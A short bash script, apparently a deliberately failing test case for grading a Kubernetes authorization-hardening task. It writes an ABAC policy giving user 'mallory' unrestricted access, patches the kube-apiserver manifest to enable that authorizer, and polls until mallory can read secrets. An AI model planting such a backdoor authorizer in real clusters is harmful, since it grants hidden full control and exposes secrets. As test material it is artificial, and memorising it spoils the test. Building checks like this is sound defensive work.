#!/bin/bash
# fails: gates-kept
# RBAC is as asked; another authorizer lets somebody do everything.
bind
mkdir -p /etc/kubernetes/abac
echo '{"apiVersion": "abac.authorization.kubernetes.io/v1beta1", "kind": "Policy", "spec": {"user": "mallory", "namespace": "*", "resource": "*", "apiGroup": "*"}}' > /etc/kubernetes/abac/policy.jsonl
yq '(.spec.containers[0].command[] | select(test("^--authorization-mode="))) += ",ABAC"
  | .spec.containers[0].command += "--authorization-policy-file=/etc/kubernetes/abac/policy.jsonl"
  | .spec.containers[0].volumeMounts += {"name": "abac", "mountPath": "/etc/kubernetes/abac", "readOnly": true}
  | .spec.volumes += {"name": "abac", "hostPath": {"path": "/etc/kubernetes/abac", "type": "Directory"}}' \
  /etc/kubernetes/manifests/kube-apiserver.yaml > /root/new.yaml
mv /root/new.yaml /etc/kubernetes/manifests/kube-apiserver.yaml
until pgrep -f 'kube-apiserver .*,ABAC' >/dev/null && kubectl auth can-i get secrets --as mallory; do sleep 0.5; done
